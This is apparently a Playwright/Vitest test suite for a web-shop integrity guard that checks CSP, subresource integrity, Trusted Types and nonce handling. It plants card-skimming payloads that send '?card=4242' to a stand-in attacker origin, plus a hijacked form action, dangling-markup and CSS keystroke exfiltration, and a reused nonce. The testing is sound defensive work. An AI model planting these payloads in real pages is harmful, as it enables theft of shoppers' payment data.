import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright'
import { afterEach, beforeAll, expect, test } from 'vitest'
import type { PageChange } from '../../src/guard/changes/pageChange.js'
import { type BuiltPage, buildPage } from './guardedPage.js'
import { sha256 } from './guardedServer.js'
import { type GuardedShop, startShop } from './guardedShop.js'

let built: BuiltPage
const shops: GuardedShop[] = []
beforeAll(async () => {
  built = await buildPage()
})
afterEach(async () => {
  for (const shop of shops.splice(0)) await shop.close()
})

async function start(options: Parameters<typeof startShop>[1] = {}): Promise<GuardedShop> {
  const shop = await startShop(built, options)
  shops.push(shop)
  return shop
}

/** The change that is expected, once it was notified of. */
async function notified({ changes }: GuardedShop, expected: Partial<PageChange>): Promise<void> {
  await expect
    .poll(() => changes.map((change) => ({ ...change })), { timeout: 30_000 })
    .toContainEqual(expect.objectContaining(expected))
}

const ran = (page: Page) => page.evaluate(() => Reflect.get(globalThis, 'ran') === true)

/** Code that notes that it ran, and sends something away. */
const steal = ({ evil }: GuardedShop) => `globalThis.ran = true; new Image().src = '${evil}/?card=4242'`

interface Attack {
  readonly plant?: (shop: GuardedShop) => void
  readonly act?: (page: Page, shop: GuardedShop) => Promise<unknown>
  /** What is notified of; of the attacker's origin where `subject` is left out. */
  readonly reported: Partial<PageChange>
}

/** Each is stopped by the browser, and reported by it. */
const stopped: Readonly<Record<string, Attack>> = {
  'an inline script in the page': {
    plant: (shop) => {
      shop.planted.html = (html) => html.replace('<form', `<script>${steal(shop)}</script><form`)
    },
    reported: { kind: 'new_script', subject: 'inline', directive: 'script-src-elem' },
  },
  'a script element for a file of an allowed origin': {
    plant: (shop) => {
      shop.planted.files.set('/assets/x.js', steal(shop))
      shop.planted.html = (html) => `${html}<script src="/assets/x.js"></script>`
    },
    reported: { kind: 'new_script', directive: 'script-src-elem' },
  },
  'a tag manager that loads a script': {
    act: (page, { evil }) =>
      page.evaluate((src) => Reflect.get(globalThis, 'loadTag')(src), `${evil}/tag.js`).catch(() => {}),
    reported: { kind: 'blocked', subject: 'trusted-types-policy', directive: 'trusted-types' },
  },
  'a form that leads elsewhere': {
    plant: (shop) => {
      shop.planted.html = (html) => html.replace('action="/pay"', `action="${shop.evil}/pay?card=4242"`)
    },
    act: (page) => page.dispatchEvent('#pay button', 'click'),
    reported: { kind: 'blocked', directive: 'form-action' },
  },
  'a service worker': {
    act: (page) =>
      page.evaluate(() => navigator.serviceWorker.register('/assets/x.js').catch(() => {})).catch(() => {}),
    reported: { kind: 'blocked', subject: 'trusted-types-sink' },
  },
  'import() of a file of an allowed origin': {
    plant: (shop) => void shop.planted.files.set('/assets/x.js', steal(shop)),
    // As text: the test runner would put its own function in the place of `import`.
    act: (page) => page.evaluate("import('/assets/x.js').catch(() => {})"),
    reported: { kind: 'new_script', directive: 'script-src-elem' },
  },
  'markup left open, so that what follows becomes part of an address': {
    plant: (shop) => {
      shop.planted.html = (html) => html.replace('<form', `<img src='${shop.evil}/?<form`)
    },
    reported: { kind: 'blocked', directive: 'img-src' },
  },
  'styles that send what is typed, letter by letter': {
    plant: (shop) => {
      const style = `input[value^="c"] { background: url("${shop.evil}/c") }`
      shop.planted.html = (html) => `<style>${style}</style>${html}`
    },
    reported: { kind: 'blocked', subject: 'inline', directive: 'style-src-elem' },
  },
}

test.each(Object.entries(stopped))('%s is stopped and reported', async (_title, { plant, act, reported }) => {
  const shop = await start()
  plant?.(shop)
  const page = await shop.open()
  await act?.(page, shop)
  const own = { ...(reported.kind === 'blocked' ? { subject: shop.evil } : {}), isBlocked: true, ...reported }

  await notified(shop, own)
  expect(await ran(page)).toBe(false)
  expect(shop.stolen).toEqual([])
})

test('other content at an authorised address is stopped by its integrity, and found by a check', async () => {
  const shop = await start()
  const [url = ''] = shop.planted.files.keys()
  shop.planted.files.set(url, steal(shop))
  const page = await shop.open()
  expect(await ran(page)).toBe(false)
  await shop.guard.check(shop.url)

  await notified(shop, { kind: 'changed_script', source: 'check', sha256: sha256(steal(shop)) })
})

test('without integrity, other content at an authorised address runs and is reported', async () => {
  const shop = await start({ isNonced: true, integrity: 'off' })
  shop.planted.html = (html) =>
    html.replace(/<script[^>]*importmap.*?<\/script>/, '').replace(/ integrity="[^"]*"/g, '')
  const [url = ''] = [...shop.planted.files.keys()].filter((name) => name.includes('index'))
  shop.planted.files.set(url, steal(shop))
  await shop.open()

  await notified(shop, { kind: 'changed_script', source: 'csp-hash', isBlocked: false, sha256: sha256(steal(shop)) })
})

test('a tag manager that may load scripts: what it loads is reported', async () => {
  const shop = await start({ isNonced: true, strictDynamic: true, integrity: 'report', trustedTypes: ['tags'] })
  const page = await shop.open()
  await page.evaluate((src) => Reflect.get(globalThis, 'loadTag')(src), `${shop.evil}/tag.js`)

  await notified(shop, { kind: 'foreign_origin', subject: shop.evil, source: 'csp-hash', isBlocked: false })
  expect(await ran(page)).toBe(true)
})

test('headers dropped on the way: no browser says so, and a check finds it', async () => {
  const shop = await start()
  shop.planted.headers = () => ({})
  await shop.open()
  await shop.guard.check(shop.url)

  await notified(shop, { kind: 'header_changed', subject: 'content-security-policy', source: 'check' })
})

test('a weaker policy on the way is reported with the first violation of it', async () => {
  const shop = await start()
  shop.planted.headers = (headers) => ({
    ...headers,
    'content-security-policy': headers['content-security-policy']?.replace("connect-src 'self'", 'connect-src *') ?? '',
  })
  const page = await shop.open()
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<b>')).catch(() => {})

  await notified(shop, { kind: 'header_changed', subject: 'content-security-policy', source: 'csp-violation' })
})

test('a nonce that is used again: its script runs, and a check finds the nonce', async () => {
  const shop = await start({ isNonced: true, integrity: 'off' })
  shop.planted.nonce = () => 'q83vEjRWeJq83vEjRWeJqQ=='
  shop.planted.html = (html) => `${html}<script nonce="q83vEjRWeJq83vEjRWeJqQ==" src="${shop.evil}/x.js"></script>`
  const page = await shop.open()
  await notified(shop, { kind: 'foreign_origin', subject: shop.evil, isBlocked: false })
  expect(await ran(page)).toBe(true)
  await shop.guard.check(shop.url)

  await notified(shop, { kind: 'nonce_reused', source: 'check' })
})

test('an extension of the shopper’s browser is no change of the page; its code in a world of its own is not seen', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'tillkit-extension-'))
  mkdirSync(folder, { recursive: true })
  const manifest = {
    manifest_version: 3,
    name: 'Coupons',
    version: '1',
    content_scripts: [{ matches: ['https://shop.test/*'], js: ['content.js'] }],
    web_accessible_resources: [{ matches: ['https://shop.test/*'], resources: ['page.js'] }],
  }
  writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest))
  writeFileSync(join(folder, 'page.js'), 'document.documentElement.dataset.page = "yes"')
  writeFileSync(
    join(folder, 'content.js'),
    `document.documentElement.dataset.content = 'yes'
    document.head.append(Object.assign(document.createElement('script'), { src: chrome.runtime.getURL('page.js') }))`,
  )
  try {
    const shop = await start({ extension: folder })
    const page = await shop.open()
    await expect
      .poll(() => page.evaluate(() => ({ ...document.documentElement.dataset })))
      .toMatchObject({ content: 'yes' })
    // What comes after it in the same browser.
    await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<b>')).catch(() => {})
    await notified(shop, { subject: 'trusted-types-sink' })
    expect(shop.changes.map(({ subject }) => subject)).toEqual(['trusted-types-sink'])
  } finally {
    rmSync(folder, { recursive: true })
  }
})

test('an unchanged page: its modules run, each is reported as authorised, and nothing is found', async () => {
  const shop = await start()
  const page = await shop.open()
  await page.click('#bank')
  await expect.poll(() => page.evaluate(() => document.querySelector('output')?.value)).toBe('readylate bank')
  await expect
    .poll(async () => {
      const day = new Date().toISOString().slice(0, 10)
      const { inventory } = await shop.guard.evidence({ from: day, to: day })
      return inventory.filter(({ url, reports }) => url !== 'inline' && reports > 0).length
    })
    .toBe(built.files.size)
  expect(shop.changes).toEqual([])
  expect((await shop.guard.check(shop.url)).changes).toEqual([])
})
